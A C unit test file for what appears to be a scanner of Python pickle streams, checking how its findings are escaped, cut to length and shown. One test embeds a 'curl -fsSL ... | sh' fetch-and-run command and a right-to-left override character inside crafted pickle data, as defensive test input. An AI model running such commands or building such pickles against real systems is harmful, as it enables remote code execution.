/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "common.h"
#include "policy/state.h"

static void lines_are_cut(void **state)
{
    (void)state;
    struct stk_line line = {0};
    for (int i = 0; i < 100; i++) {
        stk_line_add(&line, "%s", "0123456789");
    }
    assert_int_equal(line.len, sizeof line.text - 1);
    assert_int_equal(strlen(line.text), sizeof line.text - 1);
    assert_string_equal(line.text + line.len - 4, "7...");
    stk_line_add(&line, "x");
    assert_string_equal(line.text + line.len - 4, "7...");
}

static void names_are_escaped_and_cut(void **state)
{
    (void)state;
    struct stk_line line = {0};
    static char name[1000];
    memset(name, 'a', sizeof name);
    memcpy(name, "\x1b[31m\\\xff\n", 8);
    struct stk_global global = {.mapped_module = stk_span_of("m", 1),
                                .mapped_name = stk_span_of(name, sizeof name)};
    stk_line_global(&line, &global);
    assert_memory_equal(line.text, "m.\\x1b[31m\\\\\\xff\\naaa", 21);
    assert_true(line.len < 200);
    assert_string_equal(line.text + line.len - 4, "a...");
}

/* Bytes of a stream that are shown are ASCII, on one line, whatever they are. */
static void messages_are_ascii(void **state)
{
    (void)state;
    struct rated r;
    char bytes[600] = "\x80\x04"
                      "cx\n\xc3\xa9\x1b\n(C\xff";
    size_t len = strlen(bytes);
    for (int i = 0; i < 255; i++) {
        bytes[len++] = (char)(255 - i);
    }
    memcpy(bytes + len, "tR.", 3);
    rated_init(&r, STK_LOADER_PICKLE);
    rated_run(&r, &stk_alloc_libc, bytes, len + 3);
    size_t n = 0;
    const struct stk_finding *f = stk_policy_findings(r.policy, &n);
    assert_int_equal(n, 1);
    for (const char *c = f[0].message; *c != '\0'; c++) {
        assert_in_range((unsigned char)*c, 0x20, 0x7e);
    }
    assert_memory_equal(f[0].message, "calls x.\\xe9\\x1b(b'", 19);
    rated_release(&r);
}

/* One argument has the line for itself, of several none hides another. */
static void long_arguments_are_shown(void **state)
{
    (void)state;
    EXPECT("cx\ny\n(S'curl -fsSL https://example.org/"
           "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
           " | sh'\ntR.",
           REVIEW,
           "STK302 0 calls x.y('curl -fsSL https://example.org/"
           "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
           " | sh')\n");
    struct rated r;
    char bytes[1100] = "cx\ny\n(S'";
    memset(bytes + 8, 'a', 1000);
    memcpy(bytes + 1008, "'\nS' | sh'\nS'\xe2\x80\xae'\ntR.", 21);
    rated_init(&r, STK_LOADER_PICKLE);
    rated_run(&r, &stk_alloc_libc, bytes, 1029);
    const char *text = rated_text(&r);
    assert_non_null(strstr(text, " more)...'aaa"));
    assert_non_null(strstr(text, "aaa', ' | sh', '\\xe2\\x80\\xae')\n"));
    rated_release(&r);
}

/* What inspect would write for the same text. */
static void text_is_escaped_as_inspect_does(void **state)
{
    (void)state;
    EXPECT("cx\n\xe2\x80\xae\n(V\\u202e\\u00e9\ntR.", REVIEW,
           "STK302 0 calls x.\\u202e('\\u202e\\xe9')\n");
}

/* A long contract leaves the rest of the line in sight. */
static void long_contracts_are_cut(void **state)
{
    (void)state;
    struct rated r;
    char bytes[1100] = "cc\nPlain\n(S'";
    memset(bytes + 12, 'a', 1000);
    memcpy(bytes + 1012, "'\ntR.", 5);
    rated_init(&r, STK_LOADER_PICKLE);
    rated_run(&r, &stk_alloc_libc, bytes, 1017);
    assert_non_null(strstr(rated_text(&r), "'aaaaa"));
    assert_non_null(strstr(rated_text(&r), "aaa'); its contract asks for ()\n"));
    rated_release(&r);
}

static void values(void **state)
{
    (void)state;
    EXPECT("cx\ny\n(NI01\nI-3\nS'a'\n(I1\nt]}cc\nBag\n)RtR.", REVIEW,
           "STK302 0 calls x.y(None, True, -3, 'a', (1,), [...], {}, <c.Bag>)\n");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lines_are_cut),
        cmocka_unit_test(names_are_escaped_and_cut),
        cmocka_unit_test(messages_are_ascii),
        cmocka_unit_test(long_arguments_are_shown),
        cmocka_unit_test(text_is_escaped_as_inspect_does),
        cmocka_unit_test(long_contracts_are_cut),
        cmocka_unit_test(values),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
